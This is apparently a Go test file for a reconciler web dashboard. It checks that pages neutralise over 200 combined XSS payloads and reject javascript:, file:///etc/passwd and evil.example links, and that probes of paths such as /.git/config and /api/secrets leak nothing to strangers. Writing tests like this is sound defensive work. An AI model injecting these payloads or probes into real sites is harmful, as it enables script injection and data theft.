package web

import (
	"fmt"
	"io"
	"net/http"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/compassdigital/reconciler/internal/report"
)

// payloads are what has run in somebody's page, in each place out of which it might break.
func payloads() []string {
	var out []string
	for _, out1 := range []string{"", `">`, `'>`, "</title>", "</textarea>", "</style>", "</script>", "-->", "]]>", "</td></table>", "\x00", "<!--"} {
		for _, run := range []string{"<script>alert(1)</script>", "<ScRiPt src=//evil.example></ScRiPt>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<body onload=alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
			"<a href=javascript:alert(1)>x</a>", "<a href='java\tscript:alert(1)'>x</a>", "<form><button formaction=javascript:alert(1)>", "<math><mtext><img src=x onerror=alert(1)></mtext></math>", "<base href=//evil.example>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
			"<link rel=stylesheet href=//evil.example>", "<object data=//evil.example>", "<details open ontoggle=alert(1)>", "<style>@import'//evil.example'</style>", "<template><script>alert(1)</script></template>", "<xss id=x tabindex=1 onfocus=alert(1)>"} {
			out = append(out, out1+run)
		}
	}
	return out
}

// Threat 3: no payload in any field makes an element or an attribute of a page.
func TestThreat03Payloads(t *testing.T) {
	all := payloads()
	if len(all) < 200 {
		t.Errorf("only %d payloads", len(all))
	}
	tame := pagesOf(t, "tame")
	for _, s := range all {
		for path, page := range pagesOf(t, s) {
			got, texts := built(t, page)
			if want, _ := built(t, tame[path]); !slices.Equal(got, want) {
				t.Fatalf("%s with %q is built of\n%s", path, s, strings.Join(got, "\n"))
			}
			if path == "/" && !strings.Contains(strings.Join(texts, "\x00"), report.Line(s)) {
				t.Errorf("%q can't be read", s)
			}
		}
	}
	for _, link := range []string{"javascript:alert(1)", "JAVASCRIPT:alert(1)", " javascript:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)", "data:text/html,x", "vbscript:x", "file:///etc/passwd", "//evil.example", "/\\evil.example", "https:evil.example", "blob:x"} {
		if got := mayLink(link); got != "" {
			t.Errorf("%q is a link", link)
		}
	}
}

// Threat 21: without being asked by this machine nothing is told: no version, no name of a
// client, no profile, no metric; and this machine is told no version by a page either.
func TestThreat21NothingIsToldToStrangers(t *testing.T) {
	h := handler(t, Options{Read: fleet(), Ready: func() error { return fmt.Errorf("demoshop: %w", io.EOF) },
		Metrics: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { _, _ = io.WriteString(w, "up{client=\"demoshop\"} 1") })})
	version := regexp.MustCompile(`(?i)go1\.[0-9]|reconciler[/ ]v?[0-9]|server: `)
	for _, path := range []string{"/", "/healthz", "/readyz", "/metrics", "/debug/pprof/", "/debug/vars", "/debug/pprof/heap", "/version", "/api/version", "/api/clients", "/api/secrets", "/api/events", "/.git/config", "/state.db", "/key", "/reconciler.yaml", "/webhooks/github"} {
		for _, from := range []string{"192.0.2.7:1", "127.0.0.1:1"} {
			r := request(http.MethodGet, path)
			r.RemoteAddr = from
			w := do(h, r)
			said := w.Body.String() + fmt.Sprint(w.Header())
			if version.MatchString(said) {
				t.Errorf("%s from %s tells a version: %s", path, from, said)
			}
			if strings.HasPrefix(from, "192") && (strings.Contains(said, "demoshop") || w.Code == 200 && w.Body.String() != "ok\n") {
				t.Errorf("%s tells strangers: %d %s", path, w.Code, said)
			}
			if w.Code == 200 && !slices.Contains([]string{"/", "/healthz", "/api/clients", "/metrics"}, path) {
				t.Errorf("%s from %s answers %d", path, from, w.Code)
			}
		}
	}
}
